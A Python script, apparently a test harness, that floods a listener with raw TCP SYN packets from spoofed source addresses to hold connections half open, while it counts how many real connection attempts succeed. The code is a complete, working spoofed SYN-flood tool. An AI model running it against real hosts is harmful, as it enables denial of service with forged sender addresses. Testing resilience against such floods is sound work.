"""Keeps connections half open at a listener, and tries to connect to it meanwhile.

The half-open connections come from unused addresses of the same network, so nobody answers the
SYN-ACK. The raw socket needs root.
"""
import os
import socket
import struct
import sys
import threading
import time

host, port, half, tries = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
ROUNDS = 12
PAUSE = 0.25
PATIENCE = 1.5


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(number):
    source = bytes([198, 19, 200 + number // 250, 1 + number % 250])
    target = socket.inet_aton(host)
    head = struct.pack("!HHIIBBHHH", 20000 + number, port, number, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, source, target) + head


opened, errors = [], []


def connect():
    try:
        opened.append(socket.create_connection((host, port), PATIENCE))
    except OSError as failure:
        errors.append(failure)


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
packets = [syn(number) for number in range(half)]
threads = [threading.Thread(target=connect) for _ in range(tries)]
for turn in range(ROUNDS):
    for packet in packets:
        raw.sendto(packet, (host, 0))
    if turn == 2:
        for thread in threads:
            thread.start()
    time.sleep(PAUSE)
for thread in threads:
    thread.join()
print(f"opened: {len(opened)} errors: {len(errors)}", flush=True)
os._exit(0)
